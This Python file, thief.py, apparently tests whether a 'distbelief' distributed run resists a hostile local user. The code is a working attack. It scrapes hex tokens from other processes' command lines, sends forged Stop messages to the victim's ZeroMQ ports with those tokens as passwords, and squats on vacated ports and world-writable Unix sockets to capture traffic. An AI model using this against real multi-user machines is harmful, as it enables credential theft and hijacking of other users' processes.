"""A process of another user, which wants to take over a run of this machine.

    python thief.py UID < orders > report

It sees what every user sees: who listens (/proc/net), what is in /dev/shm and /tmp, and
command lines. It connects to all that listens and says that it is the user, who wants
an end; it listens wherever somebody has ceased to, and keeps every byte that comes. So
that nobody but its victim suffers, it is told in each line of its orders which sockets
(by inode) and processes are the victim's. At the end it reports what it has got.
"""

import json
import os
import re
import select
import socket
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import Final

import zmq
from zmq.utils.monitor import parse_monitor_message

from distbelief.protocol import Stop
from distbelief.protocol.codec import Codec


SIGNATURE: Final = b"\xff" + bytes(8) + b"\x7f\x03\x01"
WELCOME: Final = {b"PLAIN": b"\x04\x08\x07WELCOME", b"NULL": b"\x04\x06\x05READY"}
TURN_SECONDS: Final = 0.02
LINKS_MAX: Final = 50
LISTENS: Final = "0A"  # in /proc/net/tcp

Link = tuple[str, "zmq.Socket[bytes]", "zmq.Socket[bytes]"]  # endpoint, socket, its monitor


class Thief:
    """Takes turns until its orders end."""

    def __init__(self) -> None:
        self.inodes: set[str] = set()
        self.pids: list[int] = []
        self.ports: set[int] = set()  # of the victim, so far
        self.names: set[str] = set()  # of its sockets in files
        self.directories: set[Path] = set()  # that seem to be its
        self.words = {"guess"}  # that may open a door
        self.listeners: dict[str, socket.socket] = {}
        self.lines: list[socket.socket] = []
        self.heard = bytearray()
        self.n_tries = 0
        self.n_let_in = 0
        self._n_accepted = 0
        self._context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
        self._links: list[Link] = []
        self._tried: set[tuple[object, ...]] = set()

    def turn(self) -> None:
        self._look()
        taken, of_victim = self._listening_ports()
        self.ports |= of_victim
        for port in self.ports - taken:
            # Else its own call would get through to itself.
            self._hang_up([each for each in self._links if each[0] == f"tcp://127.0.0.1:{port}"])
            self._listen(f"port {port}", socket.AF_INET, ("127.0.0.1", port))
        for port in of_victim:
            self._call(f"tcp://127.0.0.1:{port}")
        for directory in self.directories:
            self._enter(directory)
        self._serve()
        for _, _, monitor in self._links:
            while monitor.poll(0):
                event = parse_monitor_message(monitor.recv_multipart())
                self.n_let_in += event["event"] == zmq.EVENT_HANDSHAKE_SUCCEEDED

    # -------------------------------------------------------------- what it can see

    def _look(self) -> None:
        for pid in self.pids:
            with suppress(OSError):
                said = Path(f"/proc/{pid}/cmdline").read_text(errors="replace")
                self.words.update(re.findall("[0-9a-f]{32,}", said))
        for row in self._rows("unix"):
            if len(row) > 7 and row[6] in self.inodes:
                self.names.add(Path(row[7]).name)
                self.directories.add(Path(row[7]).parent)
        for root in (Path("/dev/shm"), Path("/tmp")):
            owner = {str(pid) for pid in self.pids}
            self.directories.update(
                path for path in root.glob("distbelief-*") if path.name.split("-")[1] in owner
            )

    def _listening_ports(self) -> tuple[set[int], set[int]]:
        """Return the ports where anybody listens, and those where the victim does."""
        found, of_victim = set[int](), set[int]()
        for row in self._rows("tcp"):
            if row[3] == LISTENS:
                port = int(row[1].rpartition(":")[2], 16)
                found.add(port)
                if row[9] in self.inodes:
                    of_victim.add(port)
        return found, of_victim

    @staticmethod
    def _rows(kind: str) -> list[list[str]]:
        lines = Path(f"/proc/net/{kind}").read_text(errors="replace").splitlines()
        return [line.split() for line in lines[1:]]

    # --------------------------------------------------------------- what it can do

    def _call(self, endpoint: str) -> None:
        """Say that the user wants an end, with every word that may open the door."""
        for word in list(self.words):
            for mechanism in ("none", "plain"):
                if (endpoint, word, mechanism) in self._tried:
                    continue
                self._tried.add((endpoint, word, mechanism))
                self.n_tries += 1
                link = self._context.socket(zmq.PUSH)
                link.linger = 0
                if mechanism == "plain":
                    link.plain_username, link.plain_password = b"user", word.encode()
                monitor = link.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
                link.connect(endpoint)
                stop = Stop(reason="stolen")
                (frame,) = Codec(run=word).encode(stop, sender="user", incarnation=0)
                with suppress(zmq.Again):
                    link.send(frame, zmq.DONTWAIT)
                self._links.append((endpoint, link, monitor))
        self._hang_up(self._links[:-LINKS_MAX])

    def _hang_up(self, links: list[Link]) -> None:
        for each in links:
            self._links.remove(each)
            _, link, monitor = each
            link.disable_monitor()
            monitor.close(0)
            link.close(0)

    def _enter(self, directory: Path) -> None:
        """Connect to what listens in a directory, or listen there in its place."""
        self.n_tries += 1
        if not directory.exists():
            with suppress(OSError):
                directory.mkdir()
                directory.chmod(0o777)
        with suppress(OSError):
            if directory.stat().st_uid == os.geteuid():
                self._take_places(directory)
                return
            self.names.update(path.name for path in directory.iterdir())
            self.n_let_in += 1
        for name in self.names:
            with suppress(OSError), socket.socket(socket.AF_UNIX) as line:
                line.connect(str(directory / name))
                self.n_let_in += 1

    def _take_places(self, directory: Path) -> None:
        for name in self.names:
            path = str(directory / name)
            self._listen(f"file {path}", socket.AF_UNIX, path)

    def _listen(self, what: str, family: int, address: object) -> None:
        if what in self.listeners:
            return
        listener = socket.socket(family)
        try:
            if family == socket.AF_INET:
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(address)  # type: ignore[arg-type]
            listener.listen(64)
        except OSError:
            listener.close()
        else:
            if family == socket.AF_UNIX:
                Path(str(address)).chmod(0o777)
            self.listeners[what] = listener

    def _serve(self) -> None:
        """Keep what comes; answer as if one were who listened there before."""
        sources = [*self.listeners.values(), *self.lines]
        for source in select.select(sources, [], [], TURN_SECONDS)[0]:
            if source in self.lines:
                self._hear(source)
                continue
            line, _ = source.accept()
            mechanism = (b"PLAIN", b"NULL", b"CURVE")[self._n_accepted % 3]
            self._n_accepted += 1
            with suppress(OSError):
                line.sendall(SIGNATURE + mechanism.ljust(20, b"\0") + bytes(32))
                line.sendall(WELCOME.get(mechanism, b""))
            self.lines.append(line)

    def _hear(self, line: socket.socket) -> None:
        content = b""
        with suppress(OSError):
            content = line.recv(1 << 16)
        if not content:
            self.lines.remove(line)
            line.close()
        self.heard += content
        said = bytes(self.heard[-(1 << 17) :]).decode("latin-1")
        self.words.update(re.findall("[0-9a-f]{32,64}", said))

    def report(self) -> dict[str, object]:
        return {
            "heard": self.heard.hex(),
            "let_in": self.n_let_in,
            "tries": self.n_tries,
            "listened": sorted(self.listeners),
        }


def main() -> None:
    uid = int(sys.argv[1])
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    thief = Thief()
    orders = b""
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while True:
        thief.turn()
        if select.select([0], [], [], 0)[0]:
            content = os.read(0, 1 << 20)
            if not content:
                break
            orders += content
            *lines, orders = orders.split(b"\n")
            for line in lines:
                told = json.loads(line)
                thief.inodes.update(told["inodes"])
                thief.pids = told["pids"]
        time.sleep(TURN_SECONDS)
    sys.stdout.write(json.dumps(thief.report()) + "\n")


if __name__ == "__main__":
    main()
